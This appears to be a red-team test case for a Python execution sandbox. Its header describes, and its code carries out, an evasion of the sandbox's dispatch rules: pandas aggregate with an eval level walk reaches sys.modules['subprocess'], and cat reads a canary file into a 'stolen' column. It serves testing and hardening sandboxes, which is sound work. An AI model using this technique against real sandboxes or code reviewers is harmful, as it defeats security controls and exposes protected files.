# class: module_reach
# technique: the harness's `sys` found with an eval level walk (dispatch mapping bound to a name), then sys.modules['subprocess'] from inside the expression; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
out = None
for depth in range(2, 48):
    kw = {"func": "eval", "level": depth,
          "expr": "@sys.modules['subprocess'].check_output(['cat', '{{CANARY_FILE}}'])"}
    try:
        out = [frame.aggregate][0](**kw)
        break
    except Exception:
        pass
if out is None:
    raise RuntimeError("no sys")
df = pd.DataFrame({"stolen": [out.decode()]})
